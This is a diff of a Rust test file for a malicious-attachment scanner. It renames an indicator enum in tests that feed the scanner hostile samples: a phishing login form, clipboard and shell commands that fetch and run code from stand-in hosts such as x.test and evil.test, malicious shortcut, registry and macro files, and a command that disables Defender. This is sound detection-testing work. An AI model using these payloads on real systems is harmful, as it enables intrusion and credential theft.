@@ -5,7 +5,7 @@ mod build;
 
 use both::inspect;
 use build::lnk;
-use miwake_inspect::{File, Hints, Limits, LinkSource, SignKind};
+use miwake_inspect::{File, Hints, IndicatorKind, Limits, LinkSource};
 
 fn first(name: &str, bytes: &[u8]) -> File {
     inspect(name, bytes, &Hints::default(), &Limits::DEFAULT)
@@ -15,11 +15,11 @@ fn first(name: &str, bytes: &[u8]) -> File {
         .expect("the attachment itself is always told")
 }
 
-fn has(file: &File, kind: SignKind) -> bool {
+fn has(file: &File, kind: IndicatorKind) -> bool {
     file.signs.iter().any(|sign| sign.kind == kind)
 }
 
-fn quote(file: &File, kind: SignKind) -> &str {
+fn quote(file: &File, kind: IndicatorKind) -> &str {
     let sign = file.signs.iter().find(|sign| sign.kind == kind);
     sign.map_or("", |sign| &sign.quote)
 }
@@ -36,9 +36,9 @@ const PHISH: &str = "<html><body><form method=post action='https://collect.examp
 fn a_page_that_asks_for_a_password_says_where_it_goes() {
     let file = first("invoice.html", PHISH.as_bytes());
     assert_eq!(file.format, "html");
-    assert!(has(&file, SignKind::PasswordField));
+    assert!(has(&file, IndicatorKind::PasswordField));
     assert_eq!(
-        quote(&file, SignKind::ForeignForm),
+        quote(&file, IndicatorKind::ForeignForm),
         "https://collect.example/in.php"
     );
     assert_eq!(
@@ -86,14 +86,18 @@ fn encoded_pages_are_read_through_three_layers() {
             base64(page.as_bytes())
         );
         let file = first("a.htm", page.as_bytes());
-        assert!(has(&file, SignKind::Obfuscated), "{layer}");
-        assert_eq!(has(&file, SignKind::PasswordField), layer <= 3, "{layer}");
+        assert!(has(&file, IndicatorKind::Obfuscated), "{layer}");
+        assert_eq!(
+            has(&file, IndicatorKind::PasswordField),
+            layer <= 3,
+            "{layer}"
+        );
     }
     let percent: String = PHISH.bytes().map(|b| format!("%{b:02x}")).collect();
     let page = format!("<script>document.write(unescape('{percent}'))</script>");
     assert!(has(
         &first("a.html", page.as_bytes()),
-        SignKind::PasswordField
+        IndicatorKind::PasswordField
     ));
     let codes: Vec<String> = PHISH.bytes().map(|b| b.to_string()).collect();
     let page = format!(
@@ -102,7 +106,7 @@ fn encoded_pages_are_read_through_three_layers() {
     );
     assert!(has(
         &first("a.html", page.as_bytes()),
-        SignKind::PasswordField
+        IndicatorKind::PasswordField
     ));
     let page = format!(
         "<html><iframe src=\"data:text/html;base64,{}\"></iframe></html>",
@@ -110,7 +114,7 @@ fn encoded_pages_are_read_through_three_layers() {
     );
     assert!(has(
         &first("a.html", page.as_bytes()),
-        SignKind::PasswordField
+        IndicatorKind::PasswordField
     ));
 }
 
@@ -135,31 +139,38 @@ fn a_page_that_builds_a_file_gives_the_file_away() {
     let [outer, inner] = inside.files.as_slice() else {
         panic!("two files: {:?}", inside.files);
     };
-    assert!(has(outer, SignKind::BuildsFile));
+    assert!(has(outer, IndicatorKind::BuildsFile));
     assert_eq!((inner.parent, inner.format.as_str()), (Some(0), "lnk"));
-    assert!(quote(inner, SignKind::RunsCommand).ends_with("mshta.exe https://x.test/a.hta"));
+    assert!(quote(inner, IndicatorKind::RunsCommand).ends_with("mshta.exe https://x.test/a.hta"));
 }
 
 #[test]
 fn redirects_and_loaded_scripts_and_clipboard_commands_are_told() {
     let page = "<html><meta http-equiv=refresh content='0;url=https://go.test/'></html>";
     assert_eq!(
-        quote(&first("a.html", page.as_bytes()), SignKind::Redirects),
+        quote(&first("a.html", page.as_bytes()), IndicatorKind::Redirects),
         "https://go.test/"
     );
     let page = "<html><script>window.location.href = \"https://go.test/b\";</script></html>";
     assert_eq!(
-        quote(&first("a.html", page.as_bytes()), SignKind::Redirects),
+        quote(&first("a.html", page.as_bytes()), IndicatorKind::Redirects),
         "https://go.test/b"
     );
     let page = "<html><script src=https://cdn.test/k.js></script></html>";
     assert_eq!(
-        quote(&first("a.html", page.as_bytes()), SignKind::LoadsScript),
+        quote(
+            &first("a.html", page.as_bytes()),
+            IndicatorKind::LoadsScript
+        ),
         "https://cdn.test/k.js"
     );
     let page = "<html><button onclick=\"navigator.clipboard.writeText('powershell -w h -c iwr https://x.test')\">Verify</button></html>";
     assert!(
-        quote(&first("a.html", page.as_bytes()), SignKind::CopiesCommand).contains("powershell")
+        quote(
+            &first("a.html", page.as_bytes()),
+            IndicatorKind::CopiesCommand
+        )
+        .contains("powershell")
     );
 }
 
@@ -168,7 +179,7 @@ fn a_script_in_a_picture_is_told() {
     let svg = "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[ location='https://go.test/' ]]></script></svg>";
     let file = first("logo.svg", svg.as_bytes());
     assert_eq!(file.format, "svg");
-    assert!(has(&file, SignKind::Script) && has(&file, SignKind::Redirects));
+    assert!(has(&file, IndicatorKind::Script) && has(&file, IndicatorKind::Redirects));
     let plain = "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0L1 1'/></svg>";
     assert_eq!(first("logo.svg", plain.as_bytes()).signs, []);
 }
@@ -181,7 +192,7 @@ fn a_saved_page_is_read_part_by_part() {
     );
     let file = first("page.mht", mht.as_bytes());
     assert_eq!(file.format, "mht");
-    assert!(has(&file, SignKind::PasswordField));
+    assert!(has(&file, IndicatorKind::PasswordField));
 }
 
 #[test]
@@ -195,13 +206,14 @@ fn shell_links_show_their_command() {
     };
     let file = first("Invoice.pdf.lnk", &link.build());
     assert!(
-        quote(&file, SignKind::RunsCommand).starts_with("C:\\Windows\\System32\\cmd.exe /c start")
+        quote(&file, IndicatorKind::RunsCommand)
+            .starts_with("C:\\Windows\\System32\\cmd.exe /c start")
     );
     for kind in [
-        SignKind::HiddenWindow,
-        SignKind::ScriptFetches,
-        SignKind::ScriptRuns,
-        SignKind::OpensRemote,
+        IndicatorKind::HiddenWindow,
+        IndicatorKind::ScriptFetches,
+        IndicatorKind::ScriptRuns,
+        IndicatorKind::OpensRemote,
     ] {
         assert!(has(&file, kind), "{kind:?}");
     }
@@ -212,7 +224,7 @@ fn shell_links_show_their_command() {
     };
     let file = first("a.lnk", &share.build());
     assert_eq!(
-        quote(&file, SignKind::OpensRemote),
+        quote(&file, IndicatorKind::OpensRemote),
         "\\\\evil.test\\pub\\run.exe"
     );
     let url = lnk::Lnk {
@@ -237,122 +249,122 @@ fn small_starters_are_told_by_their_text() {
             "a.url",
             "[InternetShortcut]\r\nURL=file://evil.test/share/x.exe\r\n",
             "url",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.url",
             "[InternetShortcut]\r\nURL=https://a.test\r\nIconFile=\\\\evil.test\\i.ico\r\n",
             "url",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.website",
             "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file:///C:/Windows/calc.exe\r\n",
             "website",
-            SignKind::RunsCommand,
+            IndicatorKind::RunsCommand,
         ),
         (
             "a.library-ms",
             "<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>\\\\evil.test@SSL\\dav</url></simpleLocation></libraryDescription>",
             "library-ms",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.search-ms",
             "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"\\\\evil.test\\x\"/></scope></query></persistedQuery>",
             "search-ms",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.settingcontent-ms",
             "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
             "settingcontent-ms",
-            SignKind::RunsCommand,
+            IndicatorKind::RunsCommand,
         ),
         (
             "a.scf",
             "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.test\\share\\i.ico\r\n",
             "scf",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.desktop",
             "[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://x.test | sh'\n",
             "desktop",
-            SignKind::RunsCommand,
+            IndicatorKind::RunsCommand,
         ),
         (
             "a.reg",
             "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"mshta https://x.test\"\r\n",
             "reg",
-            SignKind::ChangesSettings,
+            IndicatorKind::ChangesSettings,
         ),
         (
             "a.iqy",
             "WEB\r\n1\r\nhttps://x.test/q.dat\r\n",
             "iqy",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.slk",
             "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc.exe\")\r\nE\r\n",
             "slk",
-            SignKind::ExcelFourMacro,
+            IndicatorKind::ExcelFourMacro,
         ),
         (
             "a.rdp",
             "screen mode id:i:2\r\nfull address:s:rds.evil.test\r\ndrivestoredirect:s:*\r\n",
             "rdp",
-            SignKind::OpensRemote,
+            IndicatorKind::OpensRemote,
         ),
         (
             "a.mobileconfig",
             "<?xml version=\"1.0\"?><plist><dict><key>PayloadType</key><string>com.apple.security.root</string></dict></plist>",
             "mobileconfig",
-            SignKind::ChangesSettings,
+            IndicatorKind::ChangesSettings,
         ),
         (
             "autorun.inf",
             "[autorun]\r\nopen=setup.exe\r\n",
             "inf",
-            SignKind::AutoRunFile,
+            IndicatorKind::AutoRunFile,
         ),
         (
             "a.js",
             "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','https://x.test/p',false)",
             "js",
-            SignKind::ScriptFetches,
+            IndicatorKind::ScriptFetches,
         ),
         (
             "a.vbs",
             "CreateObject(\"WScript.Shell\").Run \"calc\"",
             "vbs",
-            SignKind::ScriptRuns,
+            IndicatorKind::ScriptRuns,
         ),
-        ("a.jse", "#@~^XwAAAA==abc", "jse", SignKind::Obfuscated),
+        ("a.jse", "#@~^XwAAAA==abc", "jse", IndicatorKind::Obfuscated),
         (
             "a.bat",
             "@echo off\r\np^o^w^e^r^s^h^e^l^l -c \"i^e^x (i^w^r https://x.test)\"\r\n",
             "bat",
-            SignKind::Obfuscated,
+            IndicatorKind::Obfuscated,
         ),
         (
             "a.ps1",
             "Set-MpPreference -DisableRealtimeMonitoring $true",
             "ps1",
-            SignKind::ChangesSettings,
+            IndicatorKind::ChangesSettings,
         ),
         (
             "a.hta",
             "<html><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>",
             "hta",
-            SignKind::ScriptRuns,
+            IndicatorKind::ScriptRuns,
         ),
         (
             "x",
             "#!/bin/sh\ncurl -s https://x.test | sh\n",
             "sh",
-            SignKind::ScriptFetches,
+            IndicatorKind::ScriptFetches,
         ),
     ] {
         let file = first(name, text.as_bytes());
@@ -369,7 +381,7 @@ fn an_encoded_command_is_decoded() {
         .collect();
     let text = format!("powershell.exe -nop -w hidden -enc {}", base64(&command));
     let file = first("a.cmd", text.as_bytes());
-    assert!(has(&file, SignKind::Obfuscated));
+    assert!(has(&file, IndicatorKind::Obfuscated));
     assert_eq!(hrefs(&file, LinkSource::Text), ["https://drop.test/s"]);
 }
 
@@ -380,7 +392,7 @@ fn registry_files_are_often_utf16() {
     bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
     let file = first("a.reg", &bytes);
     assert_eq!(
-        quote(&file, SignKind::ChangesSettings),
+        quote(&file, IndicatorKind::ChangesSettings),
         "HKEY_CLASSES_ROOT\\x"
     );
 }
@@ -402,7 +414,7 @@ fn calendars_give_links_and_files() {
         ["https://room.test/a", "https://join.test/a"]
     );
     assert_eq!(inner.name, "a.html");
-    assert!(has(inner, SignKind::PasswordField));
+    assert!(has(inner, IndicatorKind::PasswordField));
 }
 
 #[test]
